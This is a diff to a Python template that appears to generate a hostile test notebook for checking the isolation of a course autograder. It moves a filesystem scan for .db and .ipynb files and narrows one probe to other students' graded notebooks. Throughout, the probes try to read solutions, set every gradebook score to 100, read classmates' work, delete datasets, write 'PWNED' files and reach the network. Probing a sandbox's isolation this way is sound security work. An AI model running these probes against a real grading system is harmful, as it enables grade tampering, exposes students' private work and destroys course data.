@@ -277,13 +277,21 @@ def _nonempty(found):
     if not found:
         raise FileNotFoundError("nothing there")
     return found
+_found, _visited = [], 0
+for _dir, _dirs, _files in _os.walk("/"):
+    _visited += 1
+    _dirs[:] = [] if _visited > 5000 else [d for d in _dirs if _os.path.join(_dir, d) not in ("/proc", "/sys", "/dev", "/usr")
+                                           and d not in (".venv", "site-packages", ".pyenv", ".git")]
+    _found += [_os.path.join(_dir, f) for f in _files if f.endswith((".db", ".ipynb"))]
+_report["notebooks and databases in view"] = sorted(_found)
 for _base in dict.fromkeys([_root, _course, _os.path.abspath(_os.path.join(_os.getcwd(), "..", "..", "..", ".."))]):
     _try("read solutions at " + _base, lambda: len(open(_os.path.join(_base, "solutions", {name!r}, {name!r} + ".ipynb")).read()))
     _try("read gradebook at " + _base, lambda: len(open(_os.path.join(_base, "grading", "gradebook.db"), "rb").read()))
     _try("write gradebook at " + _base, lambda: _sqlite3.connect(_os.path.join(_base, "grading", "gradebook.db")).execute(
         "UPDATE grade SET auto_score = 100").rowcount)
     _try("list other students at " + _base, lambda: _os.listdir(_os.path.join(_base, "grading", "submitted")))
-    _try("read autograded notebooks at " + _base, lambda: _nonempty(_glob.glob(_os.path.join(_base, "grading", "autograded", "*", "*", "*.ipynb"))))
+    _try("read other students' graded notebooks at " + _base, lambda: _nonempty([p for p in _glob.glob(_os.path.join(
+        _base, "grading", "autograded", "*", "*", "*.ipynb")) if not p.startswith(_os.getcwd())]))
     _try("write into course root at " + _base, lambda: open(_os.path.join(_base, "PWNED-" + _token), "w").write("pwned"))
 _try("change a data set", lambda: open(_os.path.join(_root, "datasets", "registry.json"), "a").write(" "))
 _try("delete a data set", lambda: _os.remove(_nonempty(_glob.glob(_os.path.join(_root, "datasets", "*.csv")))[0]))
@@ -292,13 +300,6 @@ _try("write a sibling folder", lambda: open(_os.path.join("..", "PWNED-" + _toke
 _try("write the host's /tmp", lambda: open("/tmp/PWNED-" + _token, "w").write("pwned"))
 _try("reach the network", lambda: _socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"pwned " + _token.encode()))
 _try("see host processes", lambda: _nonempty([p for p in _os.listdir("/proc") if p.isdigit() and int(p) > 10]))
-_found, _visited = [], 0
-for _dir, _dirs, _files in _os.walk("/"):
-    _visited += 1
-    _dirs[:] = [] if _visited > 5000 else [d for d in _dirs if _os.path.join(_dir, d) not in ("/proc", "/sys", "/dev", "/usr")
-                                           and d not in (".venv", "site-packages", ".pyenv", ".git")]
-    _found += [_os.path.join(_dir, f) for f in _files if f.endswith((".db", ".ipynb"))]
-_report["notebooks and databases in view"] = sorted(_found)
 print("HOSTILE-REPORT " + _json.dumps(_report))
 '''
 
